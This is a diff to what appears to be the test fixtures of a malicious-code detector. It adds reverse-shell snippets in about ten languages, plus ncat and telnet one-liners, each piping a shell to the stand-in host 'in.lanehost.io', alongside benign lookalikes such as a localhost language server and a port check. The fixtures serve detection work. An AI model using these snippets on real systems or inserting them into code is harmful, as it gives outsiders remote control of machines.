@@ -22,7 +22,65 @@ const elsewhere: Readonly<Record<string, (command: string) => string>> = {
   "another account": (command) => `su - app -c '${command}'\n`,
 };
 
+/** A shell whose ends are joined with a line to another machine. */
+const lines: Readonly<Record<string, Example>> = {
+  JavaScript: {
+    "a.js":
+      'const line = require("net").connect(443, "in.lanehost.io");\nconst sh = require("child_process").spawn("/bin/sh");\nline.pipe(sh.stdin);\nsh.stdout.pipe(line);\n',
+  },
+  "JavaScript, by modules": {
+    "a.mjs":
+      'const line = createConnection({ host: "in.lanehost.io", port: 443 });\nconst child = spawn(win ? "cmd.exe" : "bash");\nline.pipe(child.stdin);\nchild.stdout.pipe(line);\n',
+  },
+  Ruby: {
+    "a.rb": 'n = TCPSocket.open("in.lanehost.io", 443).to_i\nexec format("/bin/sh -i <&%d >&%d", n, n)\n',
+  },
+  Perl: {
+    "a.pl":
+      'if (connect(S, sockaddr_in(443, inet_aton("in.lanehost.io")))) { open(STDIN, ">&S"); open(STDOUT, ">&S"); exec("/bin/sh -i"); }\n',
+  },
+  PHP: {
+    "a.php":
+      '<?php $s = fsockopen("in.lanehost.io", 443); $p = proc_open("/bin/sh", [0 => $s, 1 => $s], $pipes);\n',
+  },
+  Lua: {
+    "a.lua":
+      'local s = socket.tcp(); s:connect("in.lanehost.io", 443)\nlocal l = s:receive()\nlocal f = io.popen(l); s:send(f:read("*a"))\n',
+  },
+  Java: {
+    "A.java":
+      'Process p = new ProcessBuilder("/bin/sh").start();\nSocket s = new Socket("in.lanehost.io", 443);\np.getInputStream().transferTo(s.getOutputStream());\n',
+  },
+  "C#": {
+    "a.cs":
+      'var c = new TcpClient("in.lanehost.io", 443);\nvar p = Process.Start(new ProcessStartInfo("cmd.exe"));\np.StandardOutput.BaseStream.CopyTo(c.GetStream());\n',
+  },
+  Rust: {
+    "a.rs":
+      'let s = TcpStream::connect("in.lanehost.io:443").unwrap();\nCommand::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(s.as_raw_fd()) }).spawn();\n',
+  },
+  C: {
+    "a.c":
+      'connect(s, (struct sockaddr *)&a, sizeof a);\ndup2(s, 0);\ndup2(s, 1);\nexecve("/bin/sh", 0, 0);\n',
+  },
+};
+
+const shells = [
+  "ncat --ssl in.lanehost.io 443 --sh-exec /bin/bash",
+  "telnet in.lanehost.io 443 | bash | telnet in.lanehost.io 444",
+];
+
 const seen: ReadonlyArray<readonly [string, string, Example]> = [
+  ...Object.entries(lines).map(([name, example]): readonly [string, string, Example] => [
+    `${name}: a shell on a line`,
+    "T06-program-opens-shell",
+    example,
+  ]),
+  ...shells.map((command): readonly [string, string, Example] => [
+    `shell: ${command.split(" ")[0]}`,
+    "T06-reverse-shell",
+    { "a.sh": `${command}\n` },
+  ]),
   ...Object.entries(elsewhere).map(([name, within]): readonly [string, string, Example] => [
     `shell: a command for ${name}`,
     "T06-remote-code-undeclared",
@@ -363,6 +421,14 @@ const unseen: ReadonlyArray<readonly [string, Example]> = [
     `shell: a deployment on ${name}`,
     { "a.sh": within("cd /srv/app && git pull && npm ci && systemctl restart app") },
   ]),
+  [
+    "JavaScript: a language server on a line",
+    {
+      "a.js":
+        'const line = require("net").connect(9257, "127.0.0.1");\nconst server = require("child_process").spawn("gopls");\nline.pipe(server.stdin);\nserver.stdout.pipe(line);\n',
+    },
+  ],
+  ["shell: whether a port answers", { "a.sh": "ncat -z db 5432 && echo up\n" }],
   [
     "Go: a list of short words",
     { "main.go": `package main\nvar units = []string{${letters("smhdwy")}, "ms", "us", "ns", "min"}\n` },
